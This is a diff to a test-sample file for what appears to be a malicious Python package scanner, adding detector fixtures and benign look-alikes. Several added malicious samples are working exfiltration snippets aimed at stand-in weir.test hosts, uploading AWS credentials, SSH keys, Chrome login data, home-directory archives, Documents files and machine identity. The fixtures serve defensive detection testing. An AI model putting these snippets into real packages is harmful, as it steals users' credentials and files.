@@ -10,6 +10,62 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a key that is uploaded by its path',
+      files: wheel(
+        "import os, paramiko\nlink = paramiko.Transport(('sftp.weir.test', 22))\nparamiko.SFTPClient.from_transport(link).put(os.path.expanduser('~/.aws/credentials'), '/x')\n",
+      ),
+      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: keys that a folder lists',
+      files: wheel(
+        "import pathlib, requests\nfor key in (pathlib.Path.home() / '.ssh').glob('id_*'):\n    requests.post('https://a.weir.test/k', files={'f': key.read_bytes()})\n",
+      ),
+      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: folders in an archive of its own',
+      files: wheel(
+        "import os, zipfile, requests\nout = zipfile.ZipFile('/tmp/own.zip', 'w')\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        out.write(os.path.join(at, name))\nout.close()\nrequests.post('https://a.weir.test/z', files={'f': open('/tmp/own.zip', 'rb')})\n",
+      ),
+      expected: [{ rule: 'files', file: 'own/__init__.py', line: 7, severity: 'high' }],
+    },
+    {
+      name: 'Python: a copy of a browser store, in a function',
+      files: wheel(
+        "import os, requests, shutil, sqlite3\ndef grab():\n    shutil.copy2(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), 'own.db')\n    rows = sqlite3.connect('own.db').execute('select 1').fetchall()\n    requests.post('https://a.weir.test/b', json=rows)\n",
+      ),
+      expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
+      name: 'Python: what a function is given, to a free host',
+      files: wheel(
+        'import requests\ndef connect(phrase):\n    requests.get(f"https://own.free.weir.test/api/{phrase}")\n',
+      ),
+      expected: [{ rule: 'given', file: 'own/__init__.py', line: 3, severity: 'medium' }],
+    },
+    {
+      name: 'Python: who the machine is, inside and outside',
+      files: wheel(
+        'import requests, socket\ndef tell():\n    seen = requests.get("https://address.weir.test").text\n    requests.get("http://a.weir.test:4242/log", params={"in": socket.gethostname(), "out": seen})\n',
+      ),
+      expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'Python: the content of files that a folder lists',
+      files: wheel(
+        'import os, requests\nfor name in os.listdir(os.path.expanduser("~/Documents")):\n    requests.post("https://a.weir.test/x", data=open(name).read())\n',
+      ),
+      expected: [{ rule: 'files', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: the name of the machine to a free host, in a function',
+      files: wheel(
+        'import platform, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json={"on": platform.node()})\n',
+      ),
+      expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
       name: 'Python: the environment to a free host, in a function',
       files: wheel(
         'import os, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json=dict(os.environ))\n',
@@ -178,6 +234,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: an archive of its own data',
+      wheel(
+        "import requests, zipfile\ndef send(report):\n    out = zipfile.ZipFile('own.zip', 'w')\n    out.write('report.txt')\n    out.close()\n    requests.post('https://api.weir.test/z', files={'f': open('own.zip', 'rb')})\n",
+      ),
+    ),
+    quiet(
+      'Python: what a function is given, to the address of a service',
+      wheel(
+        'import requests\ndef find(text):\n    return requests.get(f"https://api.weir.test/find/{text}").json()\n',
+      ),
+    ),
     quiet(
       'Python: the own address of the machine',
       wheel('import socket\nADDRESS = socket.gethostbyname(socket.gethostname())\n'),
